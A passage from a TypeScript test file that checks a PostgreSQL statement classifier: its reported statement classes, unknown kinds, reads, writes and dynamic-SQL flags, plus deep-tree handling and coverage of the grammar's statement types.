      ['VariableSetStmt', ['utility'], [], true],
    ],
  );
});

test('statementFacts takes the wrapped node, or the body with its kind; the facts are those of the parse', () => {
  const s = parser.classify('with d as (delete from t returning *) select * from d').statements[0]!;
  assert.deepEqual(statementFacts({ [s.kind]: s.tree }), s.facts);
  assert.deepEqual(statementFacts(s.tree, { kind: s.kind }), s.facts);
});

test('a body of unknown kind is unknown, not a guess', () => {
  const s = parser.classify('select 1').statements[0]!;
  const f = statementFacts(s.tree);
  assert.deepEqual([f.classes, f.unknownKinds], [['unknown'], ['Unknown']]);
});

test('a statement kind missing from the class table is unknown, also when nested', () => {
  const top = statementFacts({ FutureStmt: { relation: { relname: 't', relpersistence: 'p' } } });
  assert.deepEqual([top.kind, top.classes, top.unknownKinds, names(top.writes)], ['FutureStmt', ['unknown'], ['FutureStmt'], ['t']]);
  const nested = statementFacts({ ExplainStmt: { query: { FutureStmt: {} } } });
  assert.deepEqual([nested.classes, nested.unknownKinds], [['utility', 'unknown'], ['FutureStmt']]);
  const inSubquery = statementFacts({ SelectStmt: { whereClause: { SubLink: { subselect: { FutureStmt: {} } } } } });
  assert.deepEqual([inSubquery.classes, inSubquery.unknownKinds], [['select', 'unknown'], ['FutureStmt']]);
});

test('without a parse function a LANGUAGE sql string body is dynamic SQL (it cannot be read)', () => {
  const s = parser.classify('create function f() returns void language sql as $$ delete from t $$').statements[0]!;
  const f = statementFacts({ [s.kind]: s.tree });
  assert.deepEqual([f.classes, f.writes, f.flags.dynamicSql, f.flags.routineDefinition], [['ddl'], [], true, true]);
  assert.equal(s.facts.flags.dynamicSql, false);
});

test('a tree deeper than the stack is walked', () => {
  // 100,000 nested subqueries: far deeper than the parser accepts, built by hand.
  let node: Record<string, unknown> = {
    SelectStmt: { fromClause: [{ RangeVar: { schemaname: 'secrets', relname: 'api_keys', relpersistence: 'p' } }] },
  };
  for (let i = 0; i < 100_000; i++) node = { SelectStmt: { whereClause: { SubLink: { subselect: node } } } };
  const f = statementFacts(node);
  assert.deepEqual(names(f.reads), ['secrets.api_keys']);
});

test('the class table names every statement node of the PostgreSQL 17 grammar but the PL/pgSQL-only one', async () => {
  const { STATEMENT_KIND_CLASSES } = await import('./index.js');
  const { readFile } = await import('node:fs/promises');
  const { createRequire } = await import('node:module');
  const require = createRequire(import.meta.url);
  const types = await readFile(require.resolve('@pgsql/types/types.d.ts', { paths: [require.resolve('libpg-query')] }), 'utf8');
  // `export type Node = { ParseResult: ParseResult } | { ... } | ...;` up to the next export.
  const node = types.slice(types.indexOf('export type Node ='));
  const union = node.slice(0, node.indexOf('\nexport ', 1));
  const kinds = [...union.matchAll(/^\s+(\w+Stmt): \w+;$/gm)].map((m) => m[1]!);
  assert.ok(kinds.length > 100, `${kinds.length} statement nodes found`);
  const missing = kinds.filter((k) => STATEMENT_KIND_CLASSES[k] === undefined);
  // RawStmt wraps every statement of a parse result; SetOperationStmt exists only after analysis;
  // PLAssignStmt only in PL/pgSQL's grammar.
  assert.deepEqual(missing, ['RawStmt', 'SetOperationStmt', 'PLAssignStmt']);
});

test('a body with a syntax error is dynamic SQL; a parser failure while reading a body is passed on, not hidden', () => {
  const s = parser.classify("create function f() returns int language sql as 'select 1'").statements[0]!;
  const tree = { [s.kind]: s.tree };
  const syntax = Object.assign(new Error('syntax error at or near "x"'), { name: 'SqlError' });
  const oom = Object.assign(new Error('out of memory'), { name: 'SqlError' });
  const failing = (err: Error) => () => {
    throw err;
  };
  assert.equal(statementFacts(tree, { parse: failing(syntax) }).flags.dynamicSql, true);
  assert.throws(() => statementFacts(tree, { parse: failing(oom) }), /out of memory/);
  assert.throws(() => statementFacts(tree, { parse: failing(new RangeError('memory access out of bounds')) }), RangeError);
});
